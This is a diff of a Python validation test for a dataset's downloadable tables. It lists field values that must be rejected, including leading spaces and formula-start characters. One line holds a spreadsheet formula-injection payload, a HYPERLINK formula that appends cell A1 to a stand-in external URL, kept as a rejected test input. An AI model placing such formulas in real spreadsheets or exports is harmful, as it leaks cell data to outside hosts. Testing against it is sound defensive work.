@@ -62,7 +62,7 @@ def test_a_good_table_loads_with_types(data_dir):
         ("date", "2013-12-31", "below the minimum"),
         ("title", " Minsk", "leading or trailing spaces"),
         # A spreadsheet reads these as formulas; the book publishes its tables for download.
-        ("title", "=HYPERLINK(\"https://x.example/?\"&A1)", "the start of a formula"),
+        ("title", '=HYPERLINK("https://x.example/?"&A1)', "the start of a formula"),
         ("description", "+1 more clause was signed.", "the start of a formula"),
         ("description", "-- signed in Minsk", "the start of a formula"),
         ("source_publisher", "@OSCE", "the start of a formula"),
